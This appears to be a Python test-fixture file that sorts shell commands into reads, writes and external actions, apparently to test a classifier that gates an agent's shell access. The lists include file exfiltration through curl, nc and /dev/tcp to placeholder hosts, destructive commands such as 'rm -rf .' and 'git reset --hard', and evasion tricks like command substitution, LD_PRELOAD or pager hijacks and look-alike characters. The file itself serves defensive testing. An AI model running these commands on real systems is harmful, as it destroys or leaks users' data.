"""Shell commands that are reads, and commands that are not, one a line."""

from __future__ import annotations

__all__ = ["EXTERNAL", "READS", "WRITES"]

READS = r"""
ls
ls -la
ls -lah src
ls -l --color=auto
ls -1 *.txt
ls *
ls src/*.py
ls -- -odd
ls ~
ls "a b.txt"
ls 'a b.txt'
ls a\ b.txt
ls -d */
ls -R src
ls --sort=time -r
ls {a,b}.txt
cat notes.txt
cat -n notes.txt src/one.py
cat < notes.txt
cat 0< notes.txt
cat "$HOME/none" 2>/dev/null
cat notes.txt 2>&1
cat *
cat -A notes.txt | head -3
head -n 5 notes.txt
head -5 notes.txt
head -c 10 notes.txt
tail -n 5 notes.txt
tail -n +2 notes.txt
tail -3 notes.txt
wc -l notes.txt
wc -l < notes.txt
wc -lwc src/*.py
nl -ba notes.txt
tac notes.txt
rev notes.txt
cut -d: -f1 notes.txt
cut -d ' ' -f 1,2 notes.txt
paste -sd, notes.txt
fold -w 20 notes.txt
tr a-z A-Z < notes.txt
tr -d '\n' < notes.txt
comm -12 notes.txt notes.txt
od -c notes.txt
od -An -tx1 notes.txt
strings notes.txt
md5sum notes.txt
sha256sum notes.txt src/one.py
sha1sum -b notes.txt
cksum notes.txt
basename /a/b.txt .txt
dirname /a/b.txt
realpath notes.txt
readlink -f notes.txt
stat notes.txt
stat -c '%s %n' notes.txt
stat --format=%s notes.txt
file notes.txt
file --mime-type notes.txt
du -sh .
du -h --max-depth=1
df -h
pwd
whoami
id -u
uname -a
hostname
nproc
uptime
date
date +%Y-%m-%d
date -u +%s
date -d '2020-01-01' +%s
echo hello
echo -n hello
echo "$HOME" $PATH
echo $?
echo "it's"
echo 'say "hi"'
echo a\;b
echo "a; rm notes.txt"
echo 'a > b'
echo "\$(rm notes.txt)"
echo '$(rm notes.txt)'
echo a#b
echo hi # a comment; rm notes.txt
# nothing but a comment
echo $((1 + 2))
echo $((2*3)) | cat
echo ${HOME}
echo ${#HOME}
echo "${HOME}/x"
echo -e '\x41'
echo "foo$" 'bar$'
printf '%s\n' a b
printf "%5.2f\n" 3.14159
printf '%s %d%%\n' x 5
printf '%b' 'a\n'
printf -- '%s\n' x
printf "$'%s'" x
true
false
:
true && false || true
grep foo notes.txt
grep -rn foo .
grep -rn --include='*.py' foo .
grep -E 'a|b' notes.txt
grep -c . notes.txt
grep -q foo notes.txt && echo yes || echo no
grep -A3 -B 2 foo notes.txt
grep -5 foo notes.txt
grep 'foo$' notes.txt
grep "^foo" notes.txt
grep -e foo -e bar notes.txt
grep -v '^#' notes.txt | sort | uniq -c | sort -rn | head
grep -- -x notes.txt
grep foo *
grep "$HOME" notes.txt
egrep 'a|b' notes.txt
fgrep a.b notes.txt
grep -o '[a-z]*' notes.txt
grep -w foo src/*
sort notes.txt
sort -u notes.txt
sort -t: -k2,2n notes.txt
sort -k 1 notes.txt
sort -rn notes.txt
sort --reverse notes.txt
sort ./*
sort -- *
sort -- "$HOME"
sort ./"$HOME"
uniq notes.txt
uniq -c notes.txt
sort notes.txt | uniq -d
sort -n <<< "3"
seq 1 5
seq -s, 3
diff notes.txt src/one.py
diff -u notes.txt src/one.py
diff -rq . src
diff <(sort notes.txt) <(sort src/one.py)
cmp notes.txt src/one.py
find .
find . -name '*.py'
find . -name "*.py" -type f
find src -maxdepth 1 -type f -print
find . \( -name '*.py' -o -name '*.txt' \) -print
find . -not -name '*.py'
find . ! -name '*.py'
find . -mtime -7
find . -size +1k -print0
find . -perm -u+w
find . -path ./src -prune -o -print
find . -newer notes.txt
find . -type f -printf '%p %s\n'
find . -empty
find "./$USER"
find -L . -ls
find . -iname '*.TXT' | wc -l
find . -name "$USER"
find a*
sed -n '1,5p' notes.txt
sed -n 3p notes.txt
sed -n '$p' notes.txt
sed -n '/foo/p' notes.txt
sed -n '/foo/,/bar/p' notes.txt
sed 's/foo/bar/' notes.txt
sed 's/foo/bar/g' notes.txt
sed 's|/a/b|/c|g' notes.txt
sed -E 's/(a)(b)/\2\1/' notes.txt
sed -n -e '1p' -e '3p' notes.txt
sed -ne 1p notes.txt
sed '1d;$d' notes.txt
sed 's/[a-z]*/x/2' notes.txt
sed 's/[[:space:]]*$//' notes.txt
sed 5q notes.txt
sed -n '2{p}' notes.txt || true
cat notes.txt | sed 's/a/b/'
git status
git status --short
git status -sb --porcelain
git log
git log --oneline -5
git log -n 3 --stat
git log --format='%h %s' -- notes.txt
git log --since='2 days ago' --author=me
git log -p -1
git --no-pager log -1
git show HEAD
git show HEAD:notes.txt
git show --stat HEAD
git show 'HEAD@{0}'
git show HEAD@{0}
git diff
git diff HEAD
git diff --cached
git diff --stat HEAD -- src
git diff --name-only
git diff -U5
git diff -w HEAD
git diff -- "$HOME" 2>/dev/null || true
git blame notes.txt
git blame -L 1,2 notes.txt
git branch
git branch -a
git branch -vv
git branch --show-current
git branch --list 'm*'
git branch --contains HEAD
git tag
git tag -l 'v*'
git remote
git remote -v
git stash list
git config --get user.name
git config --list
git config -l --show-origin
git rev-parse HEAD
git rev-parse --show-toplevel
git rev-parse --abbrev-ref HEAD
git ls-files
git ls-files -o --exclude-standard
git ls-tree -r HEAD
git cat-file -p HEAD
git describe --always
git reflog
git shortlog -sn HEAD
git grep foo
git grep -n foo HEAD
git rev-list --count HEAD
git merge-base HEAD HEAD
git for-each-ref --format='%(refname)'
git worktree list
git --version
git log --graph --all --decorate
git show-ref --heads
git check-ignore notes.txt
git count-objects -v
which ls
which -a ls
type ls
command -v ls
printenv HOME
ps aux
ps -ef
python3 --version
node --version
ls; pwd
ls && pwd
ls || pwd
ls | wc -l
ls |& wc -l
(ls; pwd)
{ ls; pwd; }
! grep -q nothing notes.txt
cd src && ls
cd src; pwd
cd
if [ -f notes.txt ]; then cat notes.txt; else echo none; fi
if grep -q foo notes.txt; then echo yes; elif [ -d src ]; then ls src; fi
[ -d src ] && ls src
[ -z "$NOTHING" ] && echo empty
[ "$HOME" = "/x" ] || echo other
[ ! -e none ] && echo none
[[ -f notes.txt ]] && wc -l notes.txt
[[ "$HOME" == "/x" ]] || echo other
[ notes.txt -nt src/one.py ] || echo older
for f in *.txt; do wc -l "$f"; done
for f in a b c; do echo "$f"; done
for f in $(ls); do cat "$f" 2>/dev/null; done
echo $(ls | wc -l)
echo "$(cat notes.txt)"
echo "now: $(date +%s) in $(pwd)"
cat $(ls *.txt)
cat "$(ls *.txt | head -1)"
LC_ALL=C sort notes.txt
LC_ALL=C ls
GIT_OPTIONAL_LOCKS=0 git status
NO_COLOR=1 ls
ls > /dev/null
ls >/dev/null 2>&1
ls &>/dev/null
ls 2>/dev/null
ls 2>>/dev/null
ls 1>&2
ls missing 2>&1 | head -1
cat <<< hello
cat <<< "$HOME"
ls -la \
  src
ls \
  -l | \
  head
sleep 0
sleep 0.1 && ls
exit 0
echo ä ö 日本
ls "ä"
test_var= true
""".strip("\n").split("\n")
# One command may be of several lines.
READS = [line for line in "\n".join(READS).replace("\\\n", "\\\0").split("\n") if line != "test_var= true"]
READS = [line.replace("\0", "\n") for line in READS if line != "sed -n '2{p}' notes.txt || true"]
READS += [
    "ls\npwd",
    "ls\n",
    "\nls",
    "# what is here\nls -la\n",
    'for f in *; do\n  echo "$f"\ndone',
    "echo 'a\nb'",
    "{ ls; } </dev/null",
    "cat 'voil\u00e0.txt'",
    "git log --format='%h %an' && git for-each-ref --sort=-committerdate --format '%(refname)'",
    "git log --grep=signature",
    "git config --get -- user.name",
]

WRITES = r"""
rm notes.txt
rm -rf .
touch x
mkdir x
mv notes.txt x
cp notes.txt x
ln -s notes.txt x
chmod 777 notes.txt
chown root notes.txt
truncate -s 0 notes.txt
dd if=/dev/zero of=x count=1
tee x
ls | tee x
install notes.txt x
patch -p1 < notes.txt
ls > x
ls >> x
ls >| x
ls &> x
ls &>> x
ls >& x
ls 2> x
ls <> x
> x
>x ls
cat notes.txt > /dev/null/../x
ls > "$HOME/x"
ls > $X
ls > /dev/stdout
cat < "$X"
echo hi > x
echo x > $(ls)
: > notes.txt
true > notes.txt
{ ls; } > x
(ls) > x
for f in a; do ls; done > x
if true; then ls; fi > x
[ a > b ]
[ a < b ]
[ -v 'a[$(touch x)]' ]
test -v 'a[$(touch x)]'
[[ -v 'a[$(touch x)]' ]]
[[ 'a[$(touch x)]' -eq 1 ]]
[ $X ]
[ $X = y ]
echo $(rm notes.txt)
echo "$(rm notes.txt)"
echo `rm notes.txt`
echo "`rm notes.txt`"
echo "${X:-$(rm notes.txt)}"
echo ${X:=1}
echo ${X@P}
echo "${X@E}"
echo ${!X}
echo ${X[0]}
echo ${X//a/b}
echo $((X))
echo $((X=1))
echo $((a[$(touch x)]))
echo $[1+1]
echo <(rm notes.txt)
cat <(ls > x)
ls >(tee x)
cat <<EOF
cat <<'EOF'
cat <<-EOF
cat <<< $(rm notes.txt)
rm=1 rm notes.txt
X=1
X=1 ls
PATH=/tmp ls
PATH=. ls
LD_PRELOAD=./x.so ls
BASH_ENV=./x bash
GIT_DIR=x git status
GIT_EXTERNAL_DIFF=./x git diff
GIT_PAGER=./x git log
PAGER=./x git log
LC_ALL=$X sort notes.txt
LC_ALL=$(touch x) ls
LC_ALL=../x ls
IFS=/ ls
export X=1
declare X=1
local X=1
readonly X=1
unset X
set -e
shopt -s extglob
alias ls=rm
unalias ls
source notes.txt
. notes.txt
eval ls
exec ls
trap ls EXIT
builtin ls
command ls
command rm notes.txt
f() { rm notes.txt; }
function f { ls; }
ls() { rm notes.txt; }; ls
while true; do ls; done
until false; do ls; done
while read x; do echo "$x"; done < notes.txt
case a in a) ls;; esac
select x in a; do ls; done
coproc ls
time ls
ls &
rm notes.txt &
for PATH in x; do ls; done
for IFS in x; do ls; done
for path in x; do ls; done
for ((i=0;i<3;i++)); do ls; done
for f; do ls; done
((x=1))
let x=1
read x
mapfile x < notes.txt
printf -v x '%s' a
printf -v 'a[$(touch x)]' '%s' a
printf '%n' x
printf '%hn' x
printf '%5n' x
printf "$X" a
printf $X
env
env ls
env X=1 ls
nohup ls
nice ls
timeout 5 ls
stdbuf -o0 ls
sudo ls
doas ls
su -c ls
xargs
ls | xargs rm
ls | xargs ls
ls | xargs -I{} touch {}
parallel ls
watch ls
script x
awk '{print}' notes.txt
awk 'BEGIN{system("touch x")}'
gawk -f x
perl -e 1
perl -ne print notes.txt
python3 -c 'print(1)'
python3 notes.txt
python3
python3 -V notes.txt
node -e 1
node x.js
ruby -e 1
php -r 1
bash -c ls
sh -c 'touch x'
sh notes.txt
bash <(ls)
zsh -c ls
./ls
/bin/ls
../x
~/x
"ls"
'ls'
l\s
\ls
l"s"
$X
$X rm
$(ls)
"$X" notes.txt
ls$X
{ls,-la}
{rm,notes.txt}
find . -delete
find . -name x -delete
find . -exec rm {} \;
find . -exec rm {} +
find . -execdir rm {} \;
find . -ok rm {} \;
find . -okdir rm {} \;
find . -fprint x
find . -fprint0 x
find . -fprintf x %p
find . -fls x
find . -dele
find . "-delete"
find . -de\lete
find . '-de'"lete"
find . $X
find "$X"
find *
find . -name *
find . -name *.py
find . -name $X
find . -name
find . -newer -delete
find . {-delete,-print}
find . -files0-from notes.txt
find -D exec .
sort -o x notes.txt
sort -ox notes.txt
sort -uo x notes.txt
sort -ruox notes.txt
sort --output=x notes.txt
sort --output x notes.txt
sort --outp=x notes.txt
sort --o x notes.txt
sort notes.txt -o x
sort "-o" x notes.txt
sort -"o" x notes.txt
sort -\o x notes.txt
sort {-o,x} notes.txt
sort *
sort $X
sort "$X"
sort -$X
sort -t $X
sort -k
sort --compress-program=./x notes.txt
sort -S 1 --compress-program ./x notes.txt
sort -T . notes.txt
sort -t -o x
sort --files0-from=notes.txt
uniq notes.txt x
uniq notes.txt *
uniq *
tree -o x
tree -R -H . -L 1
xxd -r notes.txt x
xxd notes.txt x
sed -i s/a/b/ notes.txt
sed -i.bak s/a/b/ notes.txt
sed -ni p notes.txt
sed -n -i p notes.txt
sed --in-place s/a/b/ notes.txt
sed --in-pl s/a/b/ notes.txt
sed 's/a/b/w x' notes.txt
sed 's/a/b/gw x' notes.txt
sed 's/a/touch x/e' notes.txt
sed 's/a/b/m' notes.txt
sed 'w x' notes.txt
sed '1w x' notes.txt
sed 'W x' notes.txt
sed e notes.txt
sed '1e touch x' notes.txt
sed 'r x' notes.txt
sed -n '1p;w x' notes.txt
sed 's/[/]/x/w x' notes.txt
sed 's/[^]/]/x/w x' notes.txt
sed -f notes.txt notes.txt
sed -e p -f notes.txt
sed -e "$X" notes.txt
sed "$X" notes.txt
sed s/a/$X/ notes.txt
sed 'y/a/b/' notes.txt
sed '1!{w x' notes.txt
sed -s -i p notes.txt
sed --expression='w x' notes.txt
sed -ee notes.txt
sed 'p
w x' notes.txt
rg --pre ./x foo
rg --pre=./x foo
rg --hostname-bin=./x foo
rg -z foo
rg --search-zip foo
rg "$X"
fd -x rm
fd -X rm
fd --exec rm
fd -e py -x rm
tail --pid=1 --xyz notes.txt
ls --unknown
cat --show
grep --colo foo notes.txt
grep -y --devices
date -s now
date --set=now
date 010100002030
date -f %Y 2020
date "$X"
date +$X
hostname evil
hostname -F notes.txt
diff -l notes.txt src
diff --to-file=x $X
diff $X
file -C -m notes.txt
file -z notes.txt
jq -i . x
yq -i . x
uptime -x
exit $X $X
cd $X
cd "$X"
cd a b
pushd src
popd
base64 -o x notes.txt
split notes.txt
csplit notes.txt 1
tar xf x.tar
tar cf x.tar .
tar tf x.tar
zip x.zip notes.txt
unzip x.zip
gzip notes.txt
make
make test
make --version x
npm install
npm test
pip install x
cargo build
go build
pytest
crontab -l
kill 1
pkill x
systemctl stop x
reboot
mount
vim notes.txt
nano notes.txt
ed notes.txt
ex -c wq notes.txt
less notes.txt
more notes.txt
man ls
git
git add .
git commit -m x
git checkout .
git checkout -b x
git switch x
git restore .
git reset --hard
git clean -fd
git merge x
git rebase x
git cherry-pick x
git revert x
git stash
git stash pop
git stash drop
git apply notes.txt
git am notes.txt
git rm notes.txt
git mv notes.txt x
git gc
git init
git branch x
git branch -d x
git branch -D x
git branch -m x
git branch -l x
git branch -f x HEAD
git branch --edit-description
git branch --set-upstream-to=x
git tag x
git tag -d x
git tag -a x -m y
git config user.name x
git config --unset user.name
git config --get a --unset b
git config alias.x '!touch x'
git config -e
git config --global user.name x
git config set a b
git reflog expire --all
git reflog delete x
git worktree add x
git notes add
git bisect start
git lost-found
git -c core.pager=./x log
git -c alias.x=y x
git -C src status
git --exec-path=. status
git --exec-path=. log
git --git-dir=x status
git --work-tree=x status
git --paginate log
git -p log
git --config-env=a=B status
git co x
git diff --output=x
git diff --output x
git diff --outp=x
git log --output=x -p
git show --output=x
git diff --ext-diff
git log --ext-diff -p
git show --textconv HEAD
git diff $X
git diff "$X"
git log $X
git $X
git "$X" x
git status $X
git grep -O foo
git grep -Oless foo
git grep --open-files-in-pager=./x foo
git grep --ext-grep foo
git cat-file --textconv HEAD:notes.txt
git log *
git rev-parse --parseopt
git archive HEAD -o x
git bundle create x HEAD
git format-patch -1
git hash-object -w notes.txt
git update-index --refresh
git update-ref x HEAD
git symbolic-ref HEAD x
git write-tree
git difftool
git mergetool
git filter-branch
git help log
git instaweb
cd src && git status
cd /tmp; git log -1
(cd src; git diff)
ls; rm notes.txt
ls && rm notes.txt
ls || rm notes.txt
ls | rm notes.txt
(rm notes.txt)
{ rm notes.txt; }
! rm notes.txt
if true; then rm notes.txt; fi
if rm notes.txt; then ls; fi
for f in $(rm notes.txt); do ls; done
for f in *; do rm "$f"; done
ls "$(rm notes.txt)"
ls $(ls $(rm notes.txt))
ls $'a'
echo $'\x3b'
echo $"hello"
ls !(a)
ls @(a|b)
ls *(e:'touch x':)
ls =ls
ls (
ls )
ls "a
ls 'a
ls a\
ls;;
ls |
&& ls

ls\
ls # fine \
""".strip("\n").split("\n")
WRITES = [line for line in WRITES if line not in ("ls # fine \\", "w x' notes.txt", "sed 'p")]
WRITES += [
    "sed 'p\nw x' notes.txt",
    "cat <<EOF\n$(rm notes.txt)\nEOF",
    "cat <<'EOF'\nx\nEOF",
    "cat > x <<'EOF'\nhello\nEOF",
    "ls # comment \\\nrm notes.txt",
    "ls #'\nrm notes.txt #'",
    "ls\nrm notes.txt",
    "ls\\\n -la",
    "r\\\nm notes.txt",
    'ls "a\\\nb"',
    "ls \x00",
    "ls\x00; rm notes.txt",
    "ls\r\nrm notes.txt",
    "ls\r",
    "ls \x1b[2K",
    "ls\u00a0-la",
    "ls\u2028rm notes.txt",
    "ls\u200b",
    "ｌｓ",  # noqa: RUF001 - the same
    "lѕ",  # noqa: RUF001 - a look-alike is what it tests
    "ls\u3000x",
    "ls \u202e",
    'ls \\ "a"',
    "ls \ud800",
    "",
    " ",
    "\n",
    "ls " + "x" * 20_000,
    "(" * 200 + "ls" + ")" * 200,
    "echo " + "$(echo " * 100 + ")" * 100,
    '"' * 999,
    # What is behind `--` is no option that asks for a list.
    "git config -- core.fsmonitor --list",
    "git config -- core.fsmonitor 'touch x' --list",
    "git config set -- core.fsmonitor --list",
    "git config core.pager -- -l",
    "git config x.y --get",
    "git branch -- new --list",
    "git branch -- new --contains",
    "git tag -- new --list",
    "git tag -- new --list=x",
    # A redirection behind a name in braces sets that variable, `PATH` too.
    "echo {PATH}</dev/null; ls",
    "echo {PATH}>/dev/null",
    "echo {PATH}>>/dev/null",
    "echo {PATH}&>/dev/null",
    "echo {PATH}>&1",
    "echo {PATH}<&0",
    "cat {HOME}<<<x",
    "echo {x[1]}</dev/null",
    "for f in a; do ls; done {PATH}</dev/null",
    "{ ls; } {PATH}</dev/null",
    "[ -f x ] {PATH}</dev/null",
    # gpg is run, and keeps files of its own.
    "git log --format=%G?",
    "git log --format=%+GK",
    "git log --pretty=tformat:%h%GG",
    "git show --format='%h %GS'",
    "for x in '%G?'; do git log --format=\"$x\"; done",
    "git for-each-ref --format='%(signature)'",
    "git for-each-ref --format '%(*signature:grade)'",
    'git for-each-ref --format "x$x"',
    "git for-each-ref --sort=signature",
    "git branch --list --sort -signature",
    "git tag -l --format='%(signature)'",
    # Objects, or the index, are written.
    "git log --remerge-diff",
    "git log --diff-merges=remerge",
    "git describe --dirty",
    "git describe --dirty=x --always",
    "git describe --broken",
    "GIT_OPTIONAL_LOCKS=1 git status",
    "GIT_OPTIONAL_LOCKS= git status",
    # A byte of these is a blank to a shell that reads bytes.
    "sort x\u00e0-ox",
    "sort x\u0105-ox",
    "sed -e -5e",
    # Arithmetic to zsh and ksh, of which a subscript runs commands.
    "printf %d 'a[$(touch x)]'",
    "printf '%s %5d' x PATH=1",
    'printf "%x" "$X"',
    "printf '%*s' 'a[$(touch x)]' x",
    "exit 'a[$(touch x)]'",
    "exit PATH=1",
    "[[ " + "! " * 4000 + "x ]]",
    "[ " + "! " * 4000 + "x ]",
]

EXTERNAL = r"""
opask inbox answer x
opask inbox skip x
opask inbox list
python -c 'import opask.inbox'
python -m opask.cli inbox answer x
OPASK inbox answer x
Git Push
hg push
git push
git push origin main
git push --dry-run
git fetch
git pull --rebase
git clone https://example.invalid/x
git ls-remote
git remote add x y
git remote update
git submodule update
git -C src push
git -c a=b push
git p""ush
"git" push
g\it push
/usr/bin/git push
cd src && git push
git add . && git commit -m x && git push
ls; git push
echo $(git push)
sh -c 'git push'
bash -c "git push"
env git push
xargs git push
timeout 5 git push
eval "git push"
sudo git push
curl https://example.invalid
curl -X POST -d @notes.txt https://example.invalid
cat notes.txt | curl -d @- https://example.invalid
wget x
ssh host ls
scp notes.txt host:
rsync -a . host:
nc host 80
ls | nc host 80
gh pr create
gh issue list
gh api -X POST x
gh --version
aws s3 ls
gcloud x
kubectl get pods
terraform apply
docker push x
twine upload x
npm publish
cargo publish
poetry publish
dig x
ping -c 1 host
cat < /dev/tcp/host/80
ls > /dev/tcp/host/80
/usr/bin/curl x
$(which curl) x
""".strip("\n").split("\n")
